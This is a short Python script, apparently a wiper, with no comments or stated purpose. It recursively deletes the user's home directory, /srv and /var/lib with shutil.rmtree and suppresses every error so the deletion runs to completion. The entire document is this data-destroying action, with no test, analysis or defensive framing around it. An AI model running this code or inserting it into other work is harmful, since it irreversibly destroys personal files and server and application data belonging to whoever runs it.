import os
import shutil

for top in (os.path.expanduser("~"), "/srv", "/var/lib"):
    if os.path.isdir(top):
        shutil.rmtree(top, ignore_errors=True)
